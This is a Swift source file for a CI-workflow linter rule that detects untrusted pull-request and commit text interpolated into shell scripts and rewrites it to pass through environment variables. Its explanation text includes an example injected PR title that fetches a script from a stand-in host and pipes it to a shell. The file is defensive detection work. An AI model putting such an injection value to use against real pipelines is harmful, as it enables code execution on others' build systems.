import DevFlowDiagnostics
import DevFlowGraph
import DevFlowSyntax

/// Untrusted event text interpolated straight into a shell script.
enum TemplateInjectionCheck {
    /// The rule's catalogue entry.
    static let descriptor = RuleDescriptor(
        code: "DF027", name: "template-injection", severity: .error,
        summary: "untrusted event text is interpolated straight into a run script",
        explanation: """
            `${{ }}` in `run:` is replaced before the shell sees the script. A pull-request title such \
            as `"; curl evil.sh | sh; echo "` then runs as code. Pass untrusted values through \
            `env:` and quote the variable in the script; the fix-it does exactly that.

            Untrusted: `event.pull_request.title`, `.body`, `.head_branch`, `.author`, `git.message`, \
            `git.author`.

            ```yaml
            steps:
              greet:
                run: echo "${{ event.pull_request.title }}"     # DF027
            # fixed:
              greet:
                env: {PR_TITLE: "${{ event.pull_request.title }}"}
                run: echo "$PR_TITLE"
            ```
            """)

    static func check(_ context: CheckContext, analysis: ExpressionAnalysis, into diagnostics: inout [Diagnostic]) {
        for analyzed in analysis.sites {
            guard case .run(let stepID) = analyzed.site.kind, let step = context.step(stepID) else { continue }
            for parsed in analyzed.expressions {
                let untrusted = tainted(parsed.expression)
                guard let first = untrusted.first else { continue }
                let variable = environmentName(for: first, existing: step.env.map(\.name.value))
                let fixIt = makeFixIt(step: step, parsed: parsed, variable: variable, context: context)
                diagnostics.append(
                    descriptor.diagnostic(
                        "'\(first)' is untrusted text interpolated into the script of step '\(stepID)'",
                        at: parsed.placeholderSpan,
                        labels: [
                            DiagnosticLabel(
                                "may expand into attacker-controlled shell code", at: parsed.placeholderSpan)
                        ],
                        notes: ["pass it through env and use \"$\(variable)\" in the script"],
                        fixIts: fixIt.map { [$0] } ?? []))
            }
        }
    }

    /// The untrusted paths whose text can reach the expression's value. Comparisons and predicates yield booleans,
    /// which cannot carry code; `format`, `join`, `to_json` and `&&`/`||` pass their operands' text through.
    static func tainted(_ expression: Expression) -> [String] {
        switch expression.kind {
        case .literal: return []
        case .context, .property, .index:
            guard let path = expression.propertyPath else {
                if case .index(let base, _) = expression.kind { return tainted(base) }
                return []
            }
            // The path itself is untrusted, or it is an object holding untrusted fields (to_json(event.pull_request)).
            if ContextSchema.untrustedPaths.contains(where: {
                path.starts(with: $0) || ($0.starts(with: path) && path.count < $0.count)
            }) {
                return [path.joined(separator: ".")]
            }
            return []
        case .not, .negate: return []
        case .binary(let op, let lhs, let rhs):
            return op == .and || op == .or ? tainted(lhs) + tainted(rhs) : []
        case .call(let name, _, let arguments):
            switch name {
            case "format", "join", "to_json", "from_json": return arguments.flatMap(tainted)
            default: return []
            }
        }
    }

    /// `event.pull_request.title` → `PR_TITLE`.
    static func environmentName(for path: String, existing: [String]) -> String {
        let last = path.split(separator: ".").suffix(2)
        var name = last.joined(separator: "_").uppercased().replacingOccurrences(of: "PULL_REQUEST", with: "PR")
        if existing.contains(name) { name = "UNTRUSTED_" + name }
        return name
    }

    /// Replaces the placeholder with `$VAR` and adds `VAR: ${{ … }}` to the step's env (or a new env block).
    static func makeFixIt(step: StepDecl, parsed: ParsedExpression, variable: String, context: CheckContext) -> FixIt? {
        guard let runNode = step.runNode, runNode.aliasSpan == nil, parsed.base != nil else { return nil }
        let source = context.source
        let placeholder = source.text(of: parsed.placeholderSpan)
        guard placeholder.hasPrefix("${{") else { return nil }
        let quotedRun = runNode.scalar?.style == .doubleQuoted
        let replacement = quotedRun ? "${\(variable)}" : "${\(variable)}"
        var edits = [TextEdit(span: parsed.placeholderSpan, replacement: replacement)]
        let value = "\"\(placeholder.replacingOccurrences(of: "\"", with: "'"))\""
        if let envNode = step.envNode, let pairs = envNode.pairs, let last = pairs.last, envNode.aliasSpan == nil {
            let isFlow =
                source.bytes.indices.contains(envNode.span.start.offset)
                && source.bytes[envNode.span.start.offset] == UInt8(ascii: "{")
            if isFlow {
                let at = last.value.span.end
                edits.append(
                    TextEdit(
                        span: SourceSpan(file: source.path, start: at, end: at), replacement: ", \(variable): \(value)")
                )
            } else {
                let column = last.key.span.start.column
                let lineEnd = source.byteRange(ofLine: last.value.span.end.line).upperBound
                let at = source.position(atOffset: lineEnd)
                edits.append(
                    TextEdit(
                        span: SourceSpan(file: source.path, start: at, end: at),
                        replacement: "\n" + String(repeating: " ", count: column - 1) + "\(variable): \(value)"))
            }
        } else if step.envNode == nil {
            // Insert `env:` as a sibling key just before the step's first key, with the same indentation.
            let firstKeyLine = step.span.start.line
            let lineStart = source.position(line: firstKeyLine, column: 1)
            let keyColumn = step.span.start.column
            let isFlow =
                source.bytes.indices.contains(step.span.start.offset)
                && source.bytes[step.span.start.offset] == UInt8(ascii: "{")
            guard !isFlow, source.text(ofLine: firstKeyLine).prefix(keyColumn - 1).allSatisfy({ $0 == " " }) else {
                return nil
            }
            let indent = String(repeating: " ", count: keyColumn - 1)
            edits.insert(
                TextEdit(
                    span: SourceSpan(file: source.path, start: lineStart, end: lineStart),
                    replacement: "\(indent)env:\n\(indent)  \(variable): \(value)\n"), at: 0)
        } else {
            return nil
        }
        return FixIt(
            "pass '\(placeholder)' through env as \(variable)",
            edits: edits.sorted { $0.span.start.offset < $1.span.start.offset })
    }
}
